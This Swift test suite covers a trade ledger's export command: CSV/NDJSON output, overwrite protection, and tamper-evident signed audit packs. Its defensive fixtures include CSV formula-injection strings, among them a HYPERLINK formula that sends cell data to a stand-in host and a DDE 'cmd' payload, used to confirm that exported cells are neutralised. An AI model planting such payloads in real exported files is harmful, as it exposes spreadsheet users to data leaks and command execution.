import Glibc
import Ledger
import LedgerTestSupport
import Testing
import TradeModel

@Suite struct `The command export` {
    private static let firstDay = Timestamp(microsecondsSince1970: 1_767_225_600_000_000)  // 2026-01-01

    /// A ledger of 1800 events in small segments, 600 on each of the first days of 2026, with a signing key.
    private func threeDays() throws -> CommandLedger {
        let ledger = CommandLedger(empty: ())
        let clock = ManualClock(Self.firstDay)
        let configuration = LedgerConfiguration(segmentByteCount: 64 << 10)
        #expect(unsafe mkdir(ledger.path, 0o750) == 0)
        try Ledger.create(in: ledger.path, configuration: configuration, clock: clock.clock)
        let writer = try Ledger(opening: ledger.path, configuration: configuration, clock: clock.clock)
        // With ids, so that each day takes more than a segment.
        let lines = EventText.identified(1800, seed: 81).map { EventLine(Array($0.utf8)) }
        for day in 0..<3 {
            for outcome in writer.append(lines: Array(lines[(day * 600)..<(day * 600 + 600)])) { _ = try outcome.get() }
            clock.advance(microseconds: 86_400_000_000)
        }
        writer.close()
        try ledger.shell(#""$T" init --signing-key && cp "$D/ledger/checkpoint.pub" "$D/kept.pub""#)
        return ledger
    }

    /// The commands of a pack's README, run in the pack without the ledger's program.
    private func checkPack(_ ledger: CommandLedger, _ name: String) throws -> [ChildProcess.Outcome] {
        let commands = try ledger.shell(#"sed -n 's/^    tools/tools/p' "$D/\#(name)/README.md""#).lines
        #expect(commands.count == 2)
        return try commands.map { try ledger.shell("unset T TRADELEDGER_DIR; cd \"$D/\(name)\" && set -e; \($0)") }
    }

    @Test func `writes trades as CSV and events as NDJSON, whatever the format`() throws {
        let ledger = try CommandLedger(EventText.generated(200, seed: 82))
        let trades = try ledger.run("trades", "--format", "csv").stdout
        let events = try ledger.run("events", "--format", "json").stdout
        #expect(try ledger.run("export", "--as", "csv", "--format", "json").stdout == trades)
        #expect(try ledger.run("export", "--as", "ndjson", "--format", "table").stdout == events)
        let quiet = try ledger.shell(#""$T" export --as csv --out "$D/t.csv" && "$T" export --as ndjson --out "$D/e""#)
        #expect(quiet.ending == .exit(0) && quiet.stdout.isEmpty && quiet.stderr.isEmpty)
        #expect(try ledger.shell(#"cat "$D/t.csv""#).stdout == trades)
        #expect(try ledger.shell(#"cat "$D/e"; ls "$D""#).stdout == events + "e\nledger\nt.csv\n")
        #expect(try ledger.run("export", "--as", "csv", "--out", "/nowhere/t.csv").ending == .exit(66))
        #expect(try ledger.run("export", "--as", "ndjson", "--ledger", "/nowhere").ending == .exit(66))
        for words in [
            ["--as", "pdf"], [], ["--as", "csv", "--since", "0"], ["--as", "audit"], ["x", "--as", "csv"],
        ] {
            #expect(try ledger.start(["export"] + words).finish().ending == .exit(64), "\(words)")
        }
    }

    @Test func `writes no file into the ledger's own folder, also with --force`() throws {
        let ledger = try CommandLedger([EventText.opened("a")])
        for name in ["00000000000000000001.segment", "rejected.log", "trades.csv"] {
            let refused = try ledger.run("export", "--as", "csv", "--force", "--out", ledger.path + "/" + name)
            #expect(refused.ending == .exit(64) && refused.stderr.contains("lies in it"), "\(refused.stderr)")
        }
        #expect(try ledger.run("verify").ending == .exit(0))
    }

    @Test func `replaces no file without --force, and never what is not a file`() throws {
        let ledger = try CommandLedger([EventText.opened("a")])
        for format in ["csv", "ndjson"] {
            let path = try ledger.file(format, "kept")
            let refused = try ledger.run("export", "--as", format, "--out", path)
            #expect(refused.ending == .exit(64) && refused.messages.count == 1)
            #expect(refused.stderr.contains("\(path) already exists") && refused.stderr.contains("--force"))
            #expect(try ledger.shell("cat \(path)").stdout == "kept")
            #expect(try ledger.run("export", "--as", format, "--out", path, "--force").ending == .exit(0))
            let exported = try ledger.run("export", "--as", format).stdout
            #expect(try ledger.shell("cat \(path)").stdout == exported)
        }
        try ledger.shell(#"ln -s csv "$D/link"; mkdir "$D/folder"; mkfifo "$D/fifo"; echo x >"$D/new.tmp""#)
        for name in ["link", "folder", "fifo"] {
            let words = ["export", "--as", "csv", "--force", "--out", ledger.directory.path + "/" + name]
            #expect(try ledger.start(words).finish().ending == .exit(64), "\(name)")
        }
        #expect(try ledger.shell(#""$T" export --as csv --out "$D/new" && cat "$D/new.tmp""#).stdout == "x\n")
        #expect(
            try ledger.shell(#"ls "$D""#).lines == [
                "csv", "fifo", "folder", "ledger", "link", "ndjson", "new", "new.tmp",
            ]
        )
        for words in [["--as", "csv", "--force"], ["--as", "audit", "--out", "x", "--force"]] {
            #expect(try ledger.start(["export"] + words).finish().ending == .exit(64), "\(words)")
        }
    }

    /// Texts that spreadsheets read as formulas, and some that they do not.
    private static let formulas = [
        #"=HYPERLINK(\"http://x/?\"&A1)"#, "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", #"\t=1"#, #"\r=1"#,
        #"\n=1"#,
        "'=1", "''", "-", "-1.5.2", "--1", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}A", "-1.5", "-12", "x=1",
        "12",
    ]

    @Test func `makes no cell a formula, keeps numbers, and loses nothing`() throws {
        let fee = #"{"type":"trade.adjusted","trade_id":"x=1","occurred_at":1800000000000,"kind":"fee","cost":"-7.5"}"#
        let ledger = try CommandLedger(
            Self.formulas.map { EventText.opened($0, symbol: $0, strategy: $0) } + [fee]
        )
        try ledger.shell(#""$T" init --signing-key"#)
        let reversed = try ledger.shell(
            #"""
            "$T" export --as csv --out "$D/t.csv" && "$T" export --as audit --out "$D/pack" || exit
            cmp "$D/t.csv" "$D/pack/trades.csv" && "$T" trades --format json >"$D/t.json" || exit
            "$T" events --format csv >"$D/e.csv" && "$T" events --format json >"$D/e.json" || exit
            python3 - "$D" <<'END'
            import csv, json, re, sys
            for name, keys in ("t", ("trade_id", "symbol", "strategy")), ("e", ("trade_id", "symbol", "strategy")):
                rows = list(csv.DictReader(open(f"{sys.argv[1]}/{name}.csv", newline="")))
                records = [json.loads(line) for line in open(f"{sys.argv[1]}/{name}.json")]
                assert len(rows) == len(records)
                for row, record in zip(rows, records):
                    for cell in row.values():
                        number = re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)
                        assert number or not cell[:1] or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", cell
                    for key in keys:
                        text = record.get(key) or ""
                        assert (row[key][1:] if row[key][:1] == "'" else row[key]) == text, (row[key], text)
            assert "-7.5" in rows[-1].values()
            END
            """#
        )
        #expect(reversed.ending == .exit(0), "\(reversed.stderr)")
        let readme = try ledger.shell(#"cat "$D/pack/README.md""#).stdout
        #expect(readme.contains("An apostrophe at the beginning of a cell"))
    }

    @Test func `sorts trades that do not fit into memory beside the file that it writes`() throws {
        // 36 trades of a MiB each: several runs of 16 MiB, and trades that recur in a later run.
        let signals = String(repeating: "0123456789abcdef", count: 1 << 16).dropLast(4096)
        let ledger = try CommandLedger()
        for part in stride(from: 0, to: 36, by: 6) {
            let names = (part..<(part + 6)).map { "t-\($0)" }
            try ledger.append(
                names.map { EventText.opened($0, more: #","context":{"signals":"\#(signals)"}"#) }
                    + names.filter { !$0.hasSuffix("5") }.map { EventText.closed($0) }
            )
        }
        try ledger.append([
            #"{"type":"trade.adjusted","trade_id":"t-3","occurred_at":1772323200000,"kind":"fee","cost":"-7"}"#
        ])
        let compared = try ledger.shell(
            #"""
            "$T" trades --format csv >"$D/expected" && "$T" export --as csv --out "$D/t.csv" || exit 9
            ls "$D" && cmp "$D/expected" "$D/t.csv"
            """#
        )
        #expect(compared.ending == .exit(0), "\(compared.stderr)")
        #expect(compared.stdout == "expected\nledger\nt.csv\n")
    }

    @Test func `of an empty ledger writes nothing`() throws {
        let ledger = try CommandLedger()
        #expect(try ledger.run("export", "--as", "ndjson").stdout.isEmpty)
        let trades = try ledger.run("export", "--as", "csv")
        #expect(trades.ending == .exit(0) && trades.stdout.isEmpty)
        try ledger.shell(#""$T" init --signing-key"#)
        let none = try ledger.shell(#""$T" export --as audit --out "$D/pack""#)
        #expect(none.ending == .exit(66) && none.messages.count == 1)
    }

    @Test func `makes a pack that begins with an event about no trade`() throws {
        let deposited =
            #"{"type":"account.deposited","account":"a","occurred_at":1767225600000,"amount":1,"currency":"EUR"}"#
        let ledger = try CommandLedger([deposited, EventText.opened("a")])
        try ledger.shell(#""$T" init --signing-key && cp "$D/ledger/checkpoint.pub" "$D/kept.pub""#)
        let made = try ledger.shell(#""$T" export --as audit --out "$D/pack""#)
        #expect(made.ending == .exit(0), "\(made.stderr)")
        for check in try checkPack(ledger, "pack") { #expect(check.ending == .exit(0), "\(check.stderr)") }
    }

    @Test func `makes a pack whose README says how to check it`() throws {
        let ledger = try threeDays()
        let made = try ledger.shell(#""$T" export --as audit --out "$D/pack""#)
        #expect(made.ending == .exit(0) && made.stdout.isEmpty, "\(made.stderr)")
        let checks = try checkPack(ledger, "pack")
        for check in checks { #expect(check.ending == .exit(0), "\(check.stderr)") }
        #expect(checks[0].stdout.hasPrefix("events 1 to 1800 are those of 1 checkpoint(s)"))
        let compared = try ledger.shell(
            #"""
            "$T" events --format json | cmp - "$D/pack/events.ndjson" || exit 9
            "$T" trades --format csv | cmp - "$D/pack/trades.csv" || exit 8
            cmp "$D/pack/checkpoint.pub" "$D/kept.pub" || exit 7
            "$T" verify --against "$D/pack/checkpoint" --key "$D/kept.pub"
            """#
        )
        #expect(compared.ending == .exit(0), "\(compared.stdout)")
        let again = try ledger.shell(#""$T" export --as audit --out "$D/pack""#)
        #expect(again.ending == .exit(64) && again.stderr.contains("is not empty"))
        try ledger.shell(#"rm "$D/ledger/checkpoint.key""#)
        #expect(try ledger.shell(#""$T" export --as audit --out "$D/unsigned""#).ending == .exit(78))
    }

    @Test func `makes packs of periods, each checked against the checkpoint of the previous pack`() throws {
        let ledger = try threeDays()
        let made = try ledger.shell(
            #"""
            "$T" export --as audit --out "$D/one" --until 2026-01-02T00:00:00Z || exit
            "$T" export --as audit --out "$D/two" --since 2026-01-02T00:00:00Z --until 2026-01-03T00:00:00Z || exit
            "$T" export --as audit --out "$D/three" --since 2026-01-03T00:00:00Z
            """#
        )
        #expect(made.ending == .exit(0), "\(made.stderr)")
        for name in ["one", "two", "three"] {
            for check in try checkPack(ledger, name) { #expect(check.ending == .exit(0), "\(name): \(check.stderr)") }
        }
        let readme = try ledger.shell(#"cat "$D/two/README.md""#).stdout
        #expect(readme.contains("events 601 to 1200."))
        let begin = try #require(try ledger.shell(#"ls "$D/two/segments""#).lines.first?.prefix(20))
        #expect((2...601).contains(Int(begin) ?? 0), "the first day's segments are left out")
        let later = #"cd "$D/two" && tools/verify-proof --start start.proof --key "$D/kept.pub" segments/0*"#
        let goesOn = try ledger.shell(later + #" --checkpoints "$D/one/checkpoint""#)
        #expect(goesOn.ending == .exit(0), "\(goesOn.stderr)")
        let ahead = try ledger.shell(later + #" --checkpoints "$D/three/checkpoint""#)
        #expect(ahead.ending == .exit(1) && ahead.stderr.contains("a checkpoint over 1800 events"))
        let none = try ledger.shell(#""$T" export --as audit --out "$D/none" --since 2027-01-01T00:00:00Z"#)
        #expect(none.ending == .exit(66) && none.stderr.contains("no event in that period"))
    }

    @Test(arguments: [
        #"printf x | dd of=segments/$(ls segments | tail -n 1) bs=1 seek=900 conv=notrunc"#,
        #"rm segments/$(ls segments | sed -n 2p)"#, #"rm segments/$(ls segments | sed -n 1p)"#,
        #"rm segments/$(ls segments | tail -n 1)"#, #"sed -i '4s/index ./&0/' start.proof"#,
        #"sed -i '2s/18/17/' checkpoint"#, #"sed -i '5s/=$//' checkpoint"#,
    ])
    func `makes a pack in which every change is detected`(_ change: String) throws {
        let ledger = try threeDays()
        let made = try ledger.shell(
            #""$T" export --as audit --since 2026-01-02T00:00:00Z --out "$D/pack" && cd "$D/pack" && \#(change)"#
        )
        try #require(made.ending == .exit(0), "\(made.stderr)")
        let check = try checkPack(ledger, "pack")[0]
        #expect(check.ending == .exit(1) && check.stdout.isEmpty, "\(check.stderr)")
        #expect(!check.stderr.contains("Traceback") && !check.messages.isEmpty)
    }
}
